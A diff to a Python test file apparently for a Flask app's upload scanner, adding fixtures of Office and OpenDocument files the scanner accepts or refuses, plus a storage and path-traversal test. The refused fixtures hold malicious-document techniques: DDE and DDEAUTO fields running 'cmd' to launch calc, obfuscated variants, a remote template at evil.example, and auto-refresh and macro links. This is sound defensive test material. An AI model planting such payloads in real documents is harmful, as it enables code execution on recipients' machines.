@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import re
 import time
 import warnings
 import zipfile
@@ -14,13 +15,14 @@ import sqlalchemy as sa
 from flask import Flask
 
 from matchmaker import create_app
-from matchmaker.attachments import engine, services, tasks
+from matchmaker.attachments import engine, services, storage, tasks
 from matchmaker.attachments.hooks import scan_file
 from matchmaker.attachments.models import StoredFile
 from matchmaker.attachments.queries import subject_of
 from matchmaker.attachments.storage import MEGABYTE
 from matchmaker.core.db import db, session, unit_of_work
 from matchmaker.core.errors import Denied, Invalid
+from tests.browser import Browser
 from tests.conftest import NewDatabase
 from tests.conftest import test_config as make_config
 from tests.factories import make_city, make_member, make_solution, make_user
@@ -77,6 +79,27 @@ def twice(first: bytes, second: bytes) -> bytes:
     return buffer.getvalue()
 
 
+def part(path: str, body: str | bytes, *beside: str) -> bytes:
+    """An Office file with one part of its own, which may be called anything."""
+    kinds = {"word": "word/document.xml", "xl": "xl/workbook.xml", "ppt": "ppt/presentation.xml"}
+    return archive("[Content_Types].xml", kinds[path.partition("/")[0]], path, *beside, **{Path(path).stem: body})
+
+
+def field(*pieces: str) -> str:
+    """A Word text with one field whose code is cut into these pieces."""
+    code = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    begin, end = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end"))
+    return f'<w:document xmlns:w="urn:w"><w:p>{begin}{code}{end}</w:p></w:document>'
+
+
+def sheet(inside: str) -> bytes:
+    """An OpenDocument table with this in its content."""
+    names = 'xmlns:o="urn:o" xmlns:table="urn:t" xmlns:xlink="urn:x" xmlns:text="urn:y" xmlns:script="urn:s"'
+    return archive("content.xml", mimetype=f"{OPEN}spreadsheet", content=f"<o:c {names}>{inside}</o:c>")
+
+
+DDE = '<externalLink xmlns="urn:x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+BOOK = '<externalLink xmlns="urn:x"><externalBook id="r1"/></externalLink>'
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an object"
 EVIL = 'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"'
 NAMED = f'<p:Relationships xmlns:p="urn:p"><p:Relationship {EVIL}/></p:Relationships>'
@@ -112,6 +135,14 @@ GOOD = {
     "parts.docx": related(b'<R><Relationship Type="http://x/image" Target="media/a.png"/></R>'),
     "table.docx": template("file:///C:/Tables/book.xlsx", kind="oleObject"),
     "links.docx": template("https://city.example/", kind="hyperlink"),
+    "book.xlsx": part("xl/externalLinks/externalLink1.xml", BOOK),
+    "hidden.xlsx": part("xl/worksheets/sheet1.xml", '<s><c hidden="1">added: dde-link, ddeLink and oleLink</c></s>'),
+    "still.xlsx": part("xl/connections.xml", '<connections><connection id="1" refreshOnLoad="0"/></connections>'),
+    "fields.docx": part("word/header1.xml", field("PAGE ", "\\* MERGEFORMAT")),
+    "names.docx": part("word/header1.xml", field("REF DDE_and_OLE")),
+    "next.pptx": part("ppt/slides/slide1.xml", '<a><hlinkClick action="ppaction://hlinkshowjump?jump=nextslide"/></a>'),
+    "picture.pptx": part("ppt/media/image1.png", b"\x89PNG instr hlinkClick <ddeLink/>"),
+    "link.ods": sheet('<text:a xlink:href="https://city.example/macro:s"/><script:event-listeners/>'),
     "a.csv": "Städte;Einwohner\nGraz;302749\n".encode(),
     "excel.csv": "Straße;Länge;Preis\r\nHauptstraße;12,5;3 €\r\n".encode("cp1252"),
     "polish.csv": "Miasto\r\nŁódź;Šibenik\r\n".encode("cp1250"),
@@ -158,6 +189,32 @@ BAD = {
     "padded.docx": (related(b"<R>" + b" " * 9_000_000 + NAMED.encode() + b"</R>"), "too large when it is unpacked"),
     "object2.docx": (related(OBJECT.encode()), "contains a file of another program"),
     "code.docx": (related(CODE.encode()), "contains macros"),
+    "dde.xlsx": (part("xl/externalLinks/externalLink1.xml", DDE), "calls other programs"),
+    "dde2.xlsx": (part("xl/media/picture.dat", DDE.replace("<d", "<x:d")), "calls other programs"),
+    "wide.xlsx": (part("xl/externalLinks/a.xml", DDE.encode("utf-16")), "calls other programs"),
+    "far.xlsx": (part("xl/a.xml", f"<a>{'<b/>' * 300_000}{DDE}</a>"), "calls other programs"),
+    "ole.xlsx": (part("xl/externalLinks/a.xml", DDE.replace("ddeLink", "oleLink")), "calls other programs"),
+    "refresh.xlsx": (part("xl/connections.xml", '<c><connection refreshOnLoad="1"/></c>'), "fetches a part of itself"),
+    "sheet.xlsx": (
+        part("xl/_rels/workbook.xml.rels", '<R><Relationship Type="http://x/xlMacrosheet" Target="s.xml"/></R>'),
+        "contains macros",
+    ),
+    "control.docx": (related(OBJECT.replace("oleObject", "control").encode()), "contains macros"),
+    "dde.docx": (part("word/footnotes.xml", field("DDEAUTO c:\\\\cmd.exe /k calc")), "calls other programs"),
+    "cut.docx": (part("word/header1.xml", field(" d", "d", "e ", "cmd")), "calls other programs"),
+    "named2.docx": (part("word/header1.xml", field("&#68;DE cmd")), "calls other programs"),
+    "simple.docx": (part("word/a.xml", '<a><fldSimple instr=" DDE cmd /c"/></a>'), "calls other programs"),
+    "entity2.docx": (
+        part("word/a.xml", '<!DOCTYPE a [<!ENTITY d "DDE cmd">]><a><instrText>&d;</instrText></a>'),
+        "is damaged",
+    ),
+    "starts.pptx": (
+        part("ppt/slides/slide1.xml", '<a><hlinkClick action="&#112;paction://program"/></a>'),
+        "calls other programs",
+    ),
+    "dde.ods": (sheet("<table:dde-links><table:dde-link/></table:dde-links>"), "calls other programs"),
+    "dde.odt": (sheet("<text:dde-connection-decl/>"), "calls other programs"),
+    "script.ods": (sheet('<script:event-listener xlink:href="vnd.sun.star.script:a.py$b?language=Python"/>'), "macros"),
     "renamed.xlsx": (
         archive("[Content_Types].xml", "xl/workbook.xml", "xl/media/image1.png", image1=OLE),
         "contains a file of another program",
@@ -262,6 +319,24 @@ def test_a_scanner_is_asked_and_its_finding_refuses(people: People) -> None:
     assert clean.scan_status == "clean"
     assert [path.exists() for path in seen] == [True, False]
     assert services.attach_file(carla, subject=subject, name="c.txt", data=b"words").scan_status == "not_scanned"
+
+
+def test_bytes_lie_under_random_names_where_no_server_looks(app: Flask, browser: Browser, people: People) -> None:
+    """Not below what is served as static, not under the name that was given, readable by nobody else; one way out."""
+    solution = make_solution(people.organizations["hydrolog"], status="draft")
+    subject = subject_of(solution)
+    file = services.attach_file(people.actor("carla"), subject=subject, name="plan.txt", data=b"Words of ours.")
+    place = storage.path_of(file.stored_as)
+    assert place.read_bytes() == b"Words of ours."
+    assert re.fullmatch(r"[0-9a-f]{48}", file.stored_as)
+    assert "plan" not in str(place.relative_to(app.config["SETTINGS"].data_dir))
+    assert not place.is_relative_to(str(app.static_folder))
+    assert not os.access(place, os.X_OK) or os.stat(place).st_mode & 0o111 == 0
+    for path in (f"/static/{file.stored_as}", f"/static/../uploads/{file.stored_as[:2]}/{file.stored_as}"):
+        assert browser.get(path).status == 404
+        assert browser.get(path.replace("..", "%2e%2e")).status == 404
+    assert browser.as_(people, "carla").get(f"/files/{file.public_id}").text == "Words of ours."
+    assert browser.as_(people, "dora").get(f"/files/{file.public_id}").status == 404
 
 
 def test_a_failed_request_leaves_neither_row_nor_file(
